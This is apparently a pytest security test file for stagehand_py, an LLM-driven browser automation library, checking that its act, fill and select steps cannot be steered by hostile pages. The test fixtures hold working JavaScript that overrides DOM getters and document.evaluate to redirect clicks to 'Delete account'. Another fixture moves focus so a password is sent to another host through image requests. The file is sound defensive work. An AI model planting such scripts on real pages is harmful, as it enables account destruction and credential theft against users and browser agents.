"""A hostile page steers the reads that decide an act: it overrides DOM getters and
``document.evaluate`` so that a walk of the approved path in the page's own world lands on
"Delete account" instead of "Save". Every test runs on both page kinds (``new_stagehand``) and
has its control: the old page-world read (the resolver's walk, or ``document.evaluate``) on the
same page, which the page does steer.
"""

from __future__ import annotations

import io
import re

import pytest
from _server import Request, Response
from PIL import Image

from stagehand_py import Action, ActionFailedError, ElementNotFoundError
from stagehand_py._actions import execute_action
from stagehand_py._actions._js import load_js
from stagehand_py._secrets import VariableSet
from stagehand_py._vision._mask import MASK_COLOR, masked_screenshot, secret_fields
from stagehand_py.testing import FunctionLLM

SAVE_PATH = "/html[1]/body[1]/div[1]/button[1]"

#: Save and Delete account; every page-world read of Save's position answers Delete.
STEERED_CLICK = """<!doctype html><title>Profile</title><body>
<div id=save-slot><button onclick="document.title='saved'">Save</button></div>
<div id=danger><button onclick="document.title='deleted'">Delete account</button></div>
<script>
(() => {
  const save = document.querySelector('#save-slot button');
  const del = document.querySelector('#danger button');
  const slot = document.getElementById('save-slot');
  const children = Object.getOwnPropertyDescriptor(Element.prototype, 'children');
  Object.defineProperty(Element.prototype, 'children', {configurable: true,
    get() { return this === slot ? [del] : children.get.call(this); }});
  const childNodes = Object.getOwnPropertyDescriptor(Node.prototype, 'childNodes');
  Object.defineProperty(Node.prototype, 'childNodes', {configurable: true,
    get() { return this === slot ? [del] : childNodes.get.call(this); }});
  const evaluate = Document.prototype.evaluate;
  Document.prototype.evaluate = function (...args) {
    const result = evaluate.apply(this, args);
    return {snapshotLength: result.snapshotLength, singleNodeValue: del,
            snapshotItem: (i) => (result.snapshotItem(i) === save ? del : result.snapshotItem(i))};
  };
})();
</script>"""


def _pick(label: str):
    def answer(request) -> dict:
        text = "\n".join(str(m.content) for m in request.messages)
        m = re.search(rf"\[(\d+-\d+)\] button: {label}", text)
        return {"elements": [{"element_id": m.group(1), "description": f"button: {label}", "method": "click",
                              "arguments": []}], "opens_options": False} if m else {"elements": [], "opens_options": False}

    return answer


async def _page_world_walk(page, path: str):
    """The control: the resolver's old walk, in the page's own world (what act() used to do)."""
    steps = [{"name": n, "index": int(i), "text": False, "nonblank": False, "shadow": False}
             for n, i in re.findall(r"/([a-z]+)\[(\d+)\]", path)]
    handle = await page.main_frame.evaluate_handle(load_js("_resolver.js"), {"mode": "canonical", "steps": steps})
    return handle.as_element()


async def test_control_the_page_world_walk_is_steered_to_delete(new_stagehand, server) -> None:
    sh = await new_stagehand()
    with server.route("/steer", lambda req: Response.html(STEERED_CLICK)):
        await sh.page.goto(server.url("steer"))
        element = await _page_world_walk(sh.page, SAVE_PATH)
        assert await element.text_content() == "Delete account"
        await element.click()
        assert await sh.page.title() == "deleted"
        await sh.page.reload()
        via_evaluate = (await sh.page.evaluate_handle(
            f"document.evaluate('{SAVE_PATH}', document, null, XPathResult.ORDERED_NODE_SNAPSHOT_TYPE, null)"
            ".snapshotItem(0)")).as_element()
        await via_evaluate.click()
        assert await sh.page.title() == "deleted"


async def test_act_clicks_save_on_a_page_that_steers_page_world_reads(new_stagehand, server) -> None:
    sh = await new_stagehand(model=FunctionLLM(_pick("Save")))
    with server.route("/steer", lambda req: Response.html(STEERED_CLICK)):
        for _ in range(4):  # the issue saw 4 of 4 clicks land on Delete
            await sh.page.goto(server.url("steer"))
            [action] = await sh.observe("save the profile")
            assert action.selector == f"xpath={SAVE_PATH}"
            result = await sh.act(action)
            assert result.success and await sh.page.title() == "saved"
        await sh.page.goto(server.url("steer"))
        assert (await sh.act("save the profile")).success and await sh.page.title() == "saved"
        # An ordinary xpath goes through Playwright's engine too, not the page's document.evaluate.
        await sh.page.goto(server.url("steer"))
        await execute_action(sh.page, Action(selector="xpath=//div[@id='save-slot']/button"))
        assert await sh.page.title() == "saved"


async def test_an_element_only_the_page_world_reports_is_not_acted_on(new_stagehand) -> None:
    sh = await new_stagehand()
    await sh.page.set_content("""<div><button onclick="document.title='deleted'">Delete account</button></div>
    <script>const del = document.querySelector('button'); const c = Object.getOwnPropertyDescriptor(Element.prototype, 'children');
    Object.defineProperty(Element.prototype, 'children', {get() { return this.localName === 'body' ? [...c.get.call(this), del] : c.get.call(this); }});
    </script>""")
    assert (await _page_world_walk(sh.page, "/html[1]/body[1]/button[1]")) is not None  # the control: the page claims it
    with pytest.raises(ElementNotFoundError, match="page's own scripts report one"):
        await execute_action(sh.page, Action(selector="xpath=/html[1]/body[1]/button[1]"), timeout=0.5)
    assert await sh.page.title() == ""


# --- select_option: the option to select is read where the page cannot reorder it ----------------

STEERED_SELECT = """<!doctype html><select id=data><option value=keep>Keep my data</option>
<option value=delete>Delete my data</option></select><script>
const options = Object.getOwnPropertyDescriptor(HTMLSelectElement.prototype, 'options');
Object.defineProperty(HTMLSelectElement.prototype, 'options', {configurable: true,
  get() { return Array.from(options.get.call(this)).reverse(); }});
</script>"""
SELECT = "xpath=/html[1]/body[1]/select[1]"


async def test_select_option_by_label_is_not_steered(new_stagehand) -> None:
    sh = await new_stagehand()
    await sh.page.set_content(STEERED_SELECT)
    # Control: the old page-world read of the labels, then selecting by that index.
    labels = await sh.page.eval_on_selector("select", "s => Array.from(s.options).map(o => o.label)")
    await (await sh.page.query_selector("select")).select_option(index=labels.index("Keep my data"))
    assert await sh.page.input_value("select") == "delete"
    await sh.page.set_content(STEERED_SELECT)
    await execute_action(sh.page, Action(selector=SELECT, method="select_option", arguments=["Keep my data"]))
    assert await sh.page.input_value("select") == "keep"
    await execute_action(sh.page, Action(selector=SELECT, method="select_option", arguments=["keep my  DATA"]))
    assert await sh.page.input_value("select") == "keep"


# --- fill / type / press: keys only into the chosen field -----------------------------------------

SECRET = "hunter2-0xC0FFEE"


def _redirecting_page(steal_url: str) -> str:
    """A password field whose focus handler moves the focus to a search box that sends what it gets
    to another host; ``activeElement`` is faked to report the password field."""
    return f"""<!doctype html><title>Login</title><form><input id=pw type=text>
<input id=search onkeyup="new Image().src='{steal_url}?q='+encodeURIComponent(this.value)"
  oninput="new Image().src='{steal_url}?q='+encodeURIComponent(this.value)"></form><script>
const pw = document.getElementById('pw'), search = document.getElementById('search');
pw.addEventListener('focus', () => search.focus());
Object.defineProperty(Document.prototype, 'activeElement', {{configurable: true, get() {{ return pw; }}}});
Object.defineProperty(ShadowRoot.prototype, 'activeElement', {{configurable: true, get() {{ return null; }}}});
</script>"""


OLD_FOCUS_CHECK = """el => { el.focus(); const active = el.getRootNode().activeElement;
  return active === el || el.contains(active); }"""


class Stolen(list[str]):
    """The ``q`` of each request the hostile host's steal address (``url``) received."""

    url = ""


@pytest.fixture
def stolen(cross_server, request):
    """What the search box sent to the hostile host, at an address of this test's own (a request
    a previous test's page sent late cannot land here)."""
    values = Stolen()
    path = "/steal-" + re.sub(r"\W", "-", request.node.name)
    values.url = cross_server.url(path.lstrip("/"))

    def steal(req: Request) -> Response:
        values.append(req.query.get("q", ""))
        return Response(204, "", "text/plain")

    with cross_server.route(path, steal):
        yield values


async def _until(page, done) -> None:
    """Wait for ``done()`` (the hostile server recording a request), checking every 0.1 s (30 s at most)."""
    for _ in range(300):
        if done():
            return
        await page.wait_for_timeout(100)


@pytest.mark.parametrize("method", ["fill", "type", "press"])
async def test_control_unguarded_keys_follow_the_redirected_focus(new_stagehand, cross_server, stolen, method) -> None:
    sh = await new_stagehand()
    await sh.page.goto(cross_server.url("index.html"))  # any page; the attack is set as content
    await sh.page.set_content(_redirecting_page(stolen.url))
    pw = await sh.page.query_selector("#pw")
    if method == "fill":
        await pw.fill(SECRET)
    elif method == "type":
        assert await pw.evaluate(OLD_FOCUS_CHECK)  # the old page-world check is fooled ...
        await pw.type(SECRET)  # ... and the keys go to the search box
    else:
        await pw.press("x")
    expected = SECRET if method != "press" else "x"
    assert await sh.page.input_value("#search") == expected and await sh.page.input_value("#pw") == ""
    await _until(sh.page, lambda: expected in stolen)
    assert expected in stolen  # ... and the search box sent them to the other host


@pytest.mark.parametrize("method", ["fill", "type", "press"])
async def test_keys_never_follow_a_redirected_focus(new_stagehand, cross_server, stolen, method) -> None:
    sh = await new_stagehand()
    await sh.page.goto(cross_server.url("index.html"))
    await sh.page.set_content(_redirecting_page(stolen.url))
    argument = "%secret%" if method != "press" else "x"
    with pytest.raises(ActionFailedError, match="did not keep the focus") as info:
        await execute_action(sh.page, Action(selector="xpath=/html[1]/body[1]/form[1]/input[1]", method=method,
                                             arguments=[argument]), variables=VariableSet.of({"secret": SECRET}))
    assert SECRET not in str(info.value)
    assert await sh.page.input_value("#search") == "" and await sh.page.input_value("#pw") == ""
    # The page's own last word to the other host: once it arrives, a key sent before it has too.
    await sh.page.evaluate("(url) => { new Image().src = url + '?q=sentinel'; }", stolen.url)
    await _until(sh.page, lambda: "sentinel" in stolen)
    assert [value for value in stolen if value not in ("", "sentinel")] == [] and "sentinel" in stolen


async def test_type_stops_when_the_focus_moves_between_characters(new_stagehand) -> None:
    sh = await new_stagehand()
    await sh.page.set_content("""<input id=pw><input id=search><script>
    const pw = document.getElementById('pw');
    pw.addEventListener('keyup', () => { if (pw.value.length === 3) document.getElementById('search').focus(); });
    </script>""")
    with pytest.raises(ActionFailedError, match="typing stopped after 3 of 16 characters"):
        await execute_action(sh.page, Action(selector="#pw", method="type", arguments=["%secret%"]),
                             variables=VariableSet.of({"secret": SECRET}))
    assert await sh.page.input_value("#pw") == SECRET[:3] and await sh.page.input_value("#search") == ""


async def test_fill_type_press_into_a_field_that_keeps_the_focus(new_stagehand) -> None:
    sh = await new_stagehand()
    await sh.page.set_content("<form onsubmit='document.title=\"sent\"; return false'><input id=pw><button>Go</button></form>")
    await execute_action(sh.page, Action(selector="#pw", method="fill", arguments=["%secret%"]), variables=VariableSet.of({"secret": SECRET}))
    await execute_action(sh.page, Action(selector="#pw", method="type", arguments=["!"]))
    await execute_action(sh.page, Action(selector="#pw", method="press", arguments=["Enter"]))
    assert await sh.page.input_value("#pw") == SECRET + "!" and await sh.page.title() == "sent"


# --- the screenshot mask reads values where the page cannot hide them ----------------------------

HIDDEN_VALUE = """<!doctype html><input id=token style="width:300px;font-size:20px"><script>
const value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
Object.defineProperty(HTMLInputElement.prototype, 'value', {configurable: true,
  get() { return ''; }, set(v) { value.set.call(this, v); }});
</script>"""
OLD_VALUES_JS = "els => els.map(e => String(e.value ?? ''))"


async def test_a_value_getter_override_does_not_hide_a_secret_from_the_mask(new_stagehand) -> None:
    sh = await new_stagehand()
    await sh.page.set_content(HIDDEN_VALUE)
    variables = {"token": SECRET}
    await execute_action(sh.page, Action(selector="#token", method="fill", arguments=["%token%"]), variables=VariableSet.of(variables))
    # Control: the old page-world read sees an empty field, so nothing would be masked.
    assert await sh.page.locator("input").evaluate_all(OLD_VALUES_JS) == [""]
    assert len(await secret_fields(sh.page, VariableSet.of(variables))) == 1
    png = await masked_screenshot(sh.page, VariableSet.of(variables))
    colors = {color for _, color in Image.open(io.BytesIO(png)).convert("RGB").getcolors(1 << 20)}
    assert tuple(int(MASK_COLOR[i:i + 2], 16) for i in (1, 3, 5)) in colors


# --- targets behind a closed shadow root ---------------------------------------------------------

CLOSED_ROOT = """<!doctype html><title>Profile</title><x-host></x-host>
<div><button onclick="document.title='deleted'">Delete account</button></div><script>
(() => {
  const root = document.querySelector('x-host').attachShadow({mode: 'closed'});
  root.innerHTML = "<button onclick=\\"document.title='saved'\\">Save</button>";
  const del = document.querySelector('div button');
  const children = Object.getOwnPropertyDescriptor(DocumentFragment.prototype, 'children');
  Object.defineProperty(DocumentFragment.prototype, 'children', {configurable: true,
    get() { return this === root ? [del] : children.get.call(this); }});
})();
</script>"""


async def test_a_target_behind_a_closed_shadow_root_is_not_steered(new_stagehand) -> None:
    sh = await new_stagehand()
    await sh.page.set_content(CLOSED_ROOT)
    snapshot = await sh.snapshot()
    path = next(p for eid, p in snapshot.xpath_map.items() if f"[{eid}] button: Save" in snapshot.tree)
    assert "//" in path
    await execute_action(sh.page, Action(selector=f"xpath={path}"))
    assert await sh.page.title() == "saved"


#: The closed-root record the old resolver trusted lived in the page's world under a known name. A
#: page that defines it first (before our init script, as on a wrapped page) answers with a decoy
#: root holding "Delete account"; where our init script won the race, the page overrides the
#: record's WeakMap.prototype.get instead. Either way the page's world names the decoy.
DECOY_RECORD = """<!doctype html><title>Profile</title><x-host></x-host>
<div id=decoy><button onclick="document.title='deleted'">Delete account</button></div><script>
(() => {
  const KEY = '__stagehand_py_closed_shadow_roots_v1__';
  const host = document.querySelector('x-host');
  const decoy = document.getElementById('decoy');
  if (Object.prototype.hasOwnProperty.call(globalThis, KEY)) {
    const get = WeakMap.prototype.get;
    WeakMap.prototype.get = function (key) { return key === host ? decoy : get.call(this, key); };
  } else {
    Object.defineProperty(globalThis, KEY, {value: {get: (key) => (key === host ? decoy : undefined),
      has: () => true, set() {}}, enumerable: false, configurable: false, writable: false});
  }
  host.attachShadow({mode: 'closed'}).innerHTML = "<button onclick=\\"document.title='saved'\\">Save</button>";
})();
</script>"""
DECOY_SAVE_PATH = "/html[1]/body[1]/x-host[1]//button[1]"


async def test_control_a_page_defined_closed_root_record_feeds_a_decoy(new_stagehand, server) -> None:
    sh = await new_stagehand()
    with server.route("/decoy", lambda req: Response.html(DECOY_RECORD)):
        await sh.page.goto(server.url("decoy"))
        steps = [{"name": "html", "index": 1, "text": False, "nonblank": False, "shadow": False},
                 {"name": "body", "index": 1, "text": False, "nonblank": False, "shadow": False},
                 {"name": "x-host", "index": 1, "text": False, "nonblank": False, "shadow": False},
                 {"name": "button", "index": 1, "text": False, "nonblank": False, "shadow": True}]
        handle = await sh.page.main_frame.evaluate_handle(load_js("_resolver.js"), {"mode": "canonical", "steps": steps})
        element = handle.as_element()
        assert element is not None and await element.text_content() == "Delete account"
        await element.click()
        assert await sh.page.title() == "deleted"


async def test_a_page_defined_closed_root_record_does_not_feed_a_decoy(new_stagehand, server) -> None:
    sh = await new_stagehand()
    with server.route("/decoy", lambda req: Response.html(DECOY_RECORD)):
        await sh.page.goto(server.url("decoy"))
        snapshot = await sh.snapshot()
        path = next(p for eid, p in snapshot.xpath_map.items() if f"[{eid}] button: Save" in snapshot.tree)
        assert path == DECOY_SAVE_PATH
        result = await sh.act(Action(selector=f"xpath={path}", method="click"))
        assert result.success and await sh.page.title() == "saved"
        await sh.page.goto(server.url("decoy"))  # and without a snapshot first
        await execute_action(sh.page, Action(selector=f"xpath={DECOY_SAVE_PATH}"))
        assert await sh.page.title() == "saved"
